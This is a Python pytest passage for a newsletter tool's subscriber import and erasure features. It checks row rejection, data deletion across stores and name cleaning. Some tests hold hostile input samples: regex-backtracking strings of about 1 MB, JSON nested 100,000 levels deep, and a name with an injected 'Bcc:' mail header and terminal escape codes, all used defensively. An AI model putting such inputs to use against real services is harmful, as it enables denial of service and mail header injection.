    """A 5 MB field, a deeply nested value and a year-9999 date each reject their row, named
    with its line and reason; the other rows are imported."""
    big = "x" * (5 * 1024 * 1024)
    path = tmp_path / "list.csv"
    path.write_text(
        "email,name,created\n"
        "ann@example.com,Ann,2026-01-02\n"
        f"big@example.com,{big},2026-01-02\n"
        "late@example.com,Late,9999-12-31T23:59:59-01:00\n"
        "bob@example.com,Bob,2026-01-03\n",
        encoding="utf-8",
    )
    report = load(store, str(path))
    assert sorted(s.email for s in store.list()) == ["ann@example.com", "bob@example.com"]
    assert [(r.row, r.reason) for r in report.rejected] == [
        (3, "a field is longer than 131072 characters"),
        (4, "subscribed_at '9999-12-31T23:59:59-01:00' is out of range"),
    ]
    deep = tmp_path / "list.json"
    deep.write_text(
        '[{"email": "ann@example.com"},\n'
        ' {"email": "deep@example.com", "name": ' + "[" * 100_000 + "]" * 100_000 + "},\n"
        ' {"email": "cy@example.com"}]',
        encoding="utf-8",
    )
    report = load(store, str(deep))
    assert [(r.row, r.reason) for r in report.rejected] == [(2, "nested deeper than 32 levels")]
    assert store.get("cy@example.com") is not None


@pytest.mark.integration  # sends through a digest process first
def test_erasure_is_complete_and_lists_what_it_changed(sample_site: Path) -> None:
    """`subscribers forget` reaches every copy digest keeps: the subscriber row, the
    service-mail counts, the ledger's address, provider ids and message ids, and the
    outbox files to the address (named by its keyed hash, or after it in a file written
    before names were hashed); it lists each change (text and --json)."""
    from digest.config import load_config

    site = sample_site
    config = load_config(site / "config.yaml")
    with SubscriberStore(config.path(config.subscribers.database)) as store:
        store.add("ann@example.com", name="Ann", now=NOW)
        store.add("bob@example.com", name="Bob", now=NOW)
        assert store.reserve_mail("ann@example.com", now=NOW, window=86400, limit=5)
    sent = run_digest("send", "--week", "2026-W47", cwd=site)
    assert sent.returncode == 0, sent.stderr
    week = site / "out" / "2026-W47" / "outbox"
    [ann_file] = outbox_to(week, "ann@example.com")
    [bob_file] = outbox_to(week, "bob@example.com")
    assert "ann" not in ann_file.name and ann_file.name.startswith("00000001-")
    confirmations = site / "out" / "confirmations" / "outbox"
    confirmations.mkdir(parents=True)
    (confirmations / "00000001-ann@example.com.eml").write_text("To: ann@example.com\n")
    found = run_digest("outbox", "find", "ann@example.com", cwd=site)
    assert found.returncode == 0, found.stderr
    assert found.stdout.splitlines() == [
        f"out/2026-W47/outbox/{ann_file.name}",
        "out/confirmations/outbox/00000001-ann@example.com.eml",
    ]

    gone = run_digest("subscribers", "forget", "ann@example.com", "--yes", "--json", cwd=site)
    assert gone.returncode == 0, gone.stderr
    report = json.loads(gone.stdout)
    assert report["email"] == "ann@example.com"
    assert report["subscriber"] == "erased"
    assert report["service_mail"] == 1
    assert report["ledger_rows"] == 1
    assert sorted(report["files"]) == [
        f"out/2026-W47/outbox/{ann_file.name}",
        "out/confirmations/outbox/00000001-ann@example.com.eml",
    ]
    assert not ann_file.exists()
    gone_too = run_digest("outbox", "find", "ann@example.com", cwd=site)
    assert (gone_too.returncode, gone_too.stdout) == (1, "")
    assert gone_too.stderr == "no outbox message file for ann@example.com\n"
    ledger = sqlite3.connect(site / "data" / "ledger.sqlite")
    rows = ledger.execute(
        "SELECT email, COALESCE(message_id, ''), COALESCE(provider_message_id, '') "
        "FROM deliveries ORDER BY subscriber_id"
    ).fetchall()
    assert rows[0][0] == "(erased)"
    assert all("ann@" not in cell for cell in rows[0])
    assert rows[1][0] == "bob@example.com" and rows[1][2] == bob_file.name  # no address
    subscribers = sqlite3.connect(site / "data" / "subscribers.sqlite")
    assert subscribers.execute("SELECT COUNT(*) FROM service_mail").fetchone() == (0,)
    left = [p.name for p in (site / "out").rglob("*") if "ann@" in p.name]
    assert left == []
    text = run_digest("subscribers", "forget", "bob@example.com", "--yes", cwd=site)
    assert text.returncode == 0, text.stderr
    lines = text.stdout.splitlines()
    assert lines[0].startswith("bob@example.com: erased (erasure recorded 20")
    assert lines[1:] == [
        "  subscriber store: row deleted",
        "  service mail counts: 0 removed",
        "  ledger: 1 row(s) blanked (address, provider id, message id)",
        "  files: 1 deleted",
        f"    out/2026-W47/outbox/{bob_file.name}",
        "  not reached: backups, and the provider's own lists and logs",
    ]


def test_an_erased_mailbox_stays_erased_under_another_spelling(store: SubscriberStore) -> None:
    add_subscriber(
        store,
        "ann.lee@gmail.com",
        name="",
        categories=(),
        status="active",
        now=NOW,
        erasure_key=KEY,
    )
    forget(store, "ann.lee@gmail.com", now=NOW, erasure_key=KEY)
    for spelling in ("annlee@googlemail.com", "Ann.Lee+news@gmail.com"):
        with pytest.raises(Forgotten, match="erased on request"):
            add_subscriber(
                store,
                spelling,
                name="",
                categories=(),
                status="active",
                now=LATER,
                erasure_key=KEY,
            )
    assert erasures.forgotten_at(store.connection, "someone.else@gmail.com", KEY) is None


@pytest.mark.parametrize(
    "value",
    [
        "2026-01-01 00:00:00" + " " * 900_000 + "1",
        "2026-01-01 00:00:00." + "1" * 900_000 + "x",
        "2026-01-01 00:00:00 m=+" + "1." * 450_000 + "x",
        "\\" * 450_000,
    ],
    ids=["spaces", "fraction", "monotonic", "backslashes"],
)
def test_a_1mb_hostile_import_value_is_one_rejected_row_within_a_second(
    store: SubscriberStore, tmp_path: Path, value: str
) -> None:
    """A row just under the row limit (about 1 MB in the file) holding a value built to
    make a date pattern backtrack is rejected in linear time."""
    import time

    path = tmp_path / "list.json"
    rows = [{"email": "ann@example.com"}, {"email": "bob@example.com", "created_at": value}]
    path.write_text(json.dumps(rows), encoding="utf-8")
    started = time.perf_counter()
    report = load(store, str(path))
    assert time.perf_counter() - started < 1.0
    assert [r.row for r in report.rejected] == [2]
    assert [s.email for s in store.list()] == ["ann@example.com"]


def test_frequency_and_timezone_columns_are_imported(
    store: SubscriberStore, tmp_path: Path
) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        "email,Frequency,Time Zone\n"
        "ada@example.com,Daily,Asia/Tokyo\n"
        "bob@example.com,,Mars/Olympus\n"
        "cy@example.com,weekly,\n",
        encoding="utf-8",
    )
    report = load(store, str(path))
    assert (report.added, report.rejected) == (3, [])
    assert [(w.row, w.reason) for w in report.warnings] == [
        (3, "unknown timezone 'Mars/Olympus' dropped; bob@example.com gets the schedule's")
    ]
    rhythms = Rhythms(store)
    found = {}
    for email in ("ada@example.com", "bob@example.com", "cy@example.com"):
        subscriber = store.get(email)
        assert subscriber is not None
        found[email] = rhythms.of(subscriber)
    assert found == {
        "ada@example.com": Rhythm("daily", "Asia/Tokyo", None),
        "bob@example.com": Rhythm(),
        "cy@example.com": Rhythm(),
    }
    # again, with a change: the import states where the reader is now
    path.write_text("email,cadence,tz\nada@example.com,weekly,Europe/Berlin\n", encoding="utf-8")
    again = load(store, str(path))
    assert (again.updated, again.unchanged) == (1, 0)
    ada = store.get("ada@example.com")
    assert ada is not None and rhythms.of(ada) == Rhythm("weekly", "Europe/Berlin", None)


def test_rows_are_looked_up_and_added_a_chunk_at_a_time_in_the_files_order(
    store: SubscriberStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from digest.audience.imports import importer

    monkeypatch.setattr(importer, "CHUNK", 4)
    load(store, "mailchimp_subscribed_members_export.csv")  # ada is in the store
    rows = ["Email Address,First Name,Status"]
    for i in range(10):
        rows.append(f"new{i}@example.com,New {i},subscribed")
        if i == 2:
            rows.append("not-an-address,Bad,subscribed")
        if i == 5:
            rows.append("ada@example.com,Ada B,subscribed")
    path = tmp_path / "plain.csv"
    path.write_text("\n".join(rows) + "\n")
    statements: list[str] = []
    store.connection.set_trace_callback(statements.append)  # type: ignore[attr-defined]
    report = load(store, str(path))
    store.connection.set_trace_callback(None)  # type: ignore[attr-defined]
    assert (report.rows, report.added, report.updated) == (12, 10, 1)
    assert [(c.row, c.email, c.action) for c in report.changes][3:8] == [
        (6, "new3@example.com", "add"),
        (7, "new4@example.com", "add"),
        (8, "new5@example.com", "add"),
        (9, "ada@example.com", "update"),
        (10, "new6@example.com", "add"),
    ]
    assert [(r.row, r.email) for r in report.rejected] == [(5, "not-an-address")]
    lookups = [s for s in statements if s.startswith("SELECT id, email") and " IN (" in s]
    one_by_one = [s for s in statements if "WHERE email = 'new" in s]
    # 11 good rows in chunks of 4: three lookups, and no new row looked up or updated alone
    assert len(lookups) == 3 and one_by_one == []
    assert record(store, "new9@example.com").name == "New 9"
    assert record(store, "ada@example.com").name == "Ada B"


@pytest.mark.parametrize(
    ("raw", "stored"),
    [
        ("  Ada   Lovelace ", "Ada Lovelace"),
        ("Ada\tLovelace\r\nBcc: x@example.com", "Ada Lovelace Bcc: x@example.com"),
        ("Ada\x1b[31mRed\x7f", "Ada[31mRed"),
        ("Ad\u202ea \u00e9t\u00e9", "Ada \u00e9t\u00e9"),
        ("x" * 300, "x" * 200),
    ],
)
def test_a_name_is_stored_as_one_clean_line(raw: str, stored: str) -> None:
    from digest.audience.names import NAME_LIMIT, clean_name

    assert NAME_LIMIT == 200
    assert clean_name(raw) == stored


def test_imported_rows_without_a_status_time_are_dated_as_the_store_dates_any_arrival(
    store: SubscriberStore, tmp_path: Path
) -> None:
    # The import gives each new row the moment its status began, as the store's arrival
    # trigger would for a row that has none: the subscription for someone active, the
    # import for someone already gone (the same as before the import gave it).
    path = tmp_path / "list.csv"
    path.write_text(
        "email,status,subscribed_at\n"
        "stays@example.com,active,2025-02-01T08:00:00Z\n"
        "left@example.com,unsubscribed,2025-03-01T08:00:00Z\n"
        "undated@example.com,active,\n",
        encoding="utf-8",
    )
    assert load(store, str(path)).added == 3
    history = {
        email: (found.status_at, [(e["at"], e["status"]) for e in found.history])
        for email in ("stays@example.com", "left@example.com", "undated@example.com")
        for found in [record(store, email)]
    }
    assert history == {
        "stays@example.com": ("2025-02-01T08:00:00Z", [("2025-02-01T08:00:00Z", "active")]),
        "left@example.com": (
            "2026-11-23T12:00:00Z",
            [("2025-03-01T08:00:00Z", "active"), ("2026-11-23T12:00:00Z", "unsubscribed")],
        ),
        "undated@example.com": ("2026-11-23T12:00:00Z", [("2026-11-23T12:00:00Z", "active")]),
    }
